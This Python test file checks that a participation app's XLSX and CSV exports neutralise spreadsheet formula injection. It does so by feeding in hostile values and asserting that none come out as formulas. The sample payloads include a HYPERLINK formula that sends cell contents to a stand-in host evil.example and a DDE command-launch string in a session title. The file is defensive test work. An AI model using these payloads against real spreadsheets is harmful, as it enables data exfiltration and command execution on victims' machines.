"""Formula injection (OWASP): what participants and facilitators typed reaches a spreadsheet as text, not a formula."""

import csv
import io

from openpyxl import load_workbook

from widgets.model.sessions import SessionSpec
from widgets.model.validation import clean_text
from widgets.report.exports import csv_bytes, xlsx_bytes
from widgets.report.paper import import_paper, template_csv
from widgets.report.transfer import export_session
from widgets.store.cells import FORMULA_STARTS, csv_cell, from_csv_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1"]


def hostile_session(store):
    session, _ = store.create_session(
        SessionSpec(
            title="=cmd|' /C calc'!A0", topic="wonen", municipality="@Gouda", activities=("palet", "beoordelen")
        )
    )
    store.set_activity_open(session.id, "palet", True)
    for i, text in enumerate(HOSTILE):
        someone = store.join(session.code, "inwoner")
        store.submit(someone.token, "palet", {f"v{i}": {"text": text, "cell": "individueel.materieel"}})
    return session


def test_no_cell_of_the_workbook_is_a_formula_and_every_text_is_kept(sqlite_store):
    session = hostile_session(sqlite_store)
    book = load_workbook(io.BytesIO(xlsx_bytes(export_session(sqlite_store, session.id))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # each value as typed (XML reads a CR back as a line feed; the kit's own validation never
    # stores a CR, this one came straight into the store)
    assert set(HOSTILE) - {"\r=1+1"} <= texts and "\n=1+1" in texts
    assert "=cmd|' /C calc'!A0" in texts and "@Gouda" in texts


def test_no_csv_cell_starts_a_formula_and_a_typed_in_sheet_gives_the_same_words_back(sqlite_store):
    session = hostile_session(sqlite_store)
    data = export_session(sqlite_store, session.id)
    for payload, delimiter in ((csv_bytes(data), ";"), (csv_bytes(data, plain=True), ",")):
        cells = [
            cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter) for cell in row
        ]
        assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
    answers = list(csv.DictReader(io.StringIO(csv_bytes(data, plain=True).decode())))
    assert "'" + HOSTILE[0] in {row["value"] for row in answers}  # Excel shows the words, not a link

    # the same words typed into the paper table (as a spreadsheet saves them, neutralised) come back as typed
    copy, _ = sqlite_store.create_session(SessionSpec(title="Kopie", topic="wonen", activities=("palet",)))
    copy_data = export_session(sqlite_store, copy.id)
    lines = [template_csv(copy_data, "palet", "nl").decode("utf-8-sig").strip()]
    for sheet, text in enumerate(HOSTILE, start=1):
        lines.append(
            ";".join(["Inwoner", str(sheet), "Individueel, materieel", '"' + csv_cell(text).replace('"', '""') + '"'])
        )
    import_paper(sqlite_store, copy.id, "papier.csv", ("\n".join(lines) + "\n").encode("utf-8-sig"))
    as_a_phone_stores = sorted(clean_text(text, "value") for text in HOSTILE)  # tabs and CRs trimmed, as on a phone
    assert sorted(a.value["text"] for a in sqlite_store.answers(copy.id, "palet")) == as_a_phone_stores


def test_the_apostrophe_comes_off_only_where_the_export_put_it():
    for text in ["=1", "'=1", "''=1", "'plain", "plain", "", "-", "12-3", "€ -5"]:
        assert from_csv_cell(csv_cell(text)) == text
    assert csv_cell("plain") == "plain" and csv_cell("'plain") == "'plain" and csv_cell("=1") == "'=1"
